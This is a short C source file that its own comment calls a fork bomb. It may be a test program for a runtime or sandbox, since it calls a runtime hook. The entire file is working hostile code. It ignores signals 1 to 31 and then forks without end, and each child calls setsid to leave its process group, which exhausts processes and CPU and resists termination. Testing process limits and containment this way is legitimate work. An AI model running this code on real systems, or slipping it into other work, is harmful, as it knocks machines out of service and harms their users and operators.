/* A fork bomb: every process makes more, ignores signals and keeps the processor busy. */

#include <signal.h>

#include "runtime.h"

int main(void)
{
    struct invocation in = { 0 };
    rt_next(&in);
    for (int number = 1; number < 32; number++)
        signal(number, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
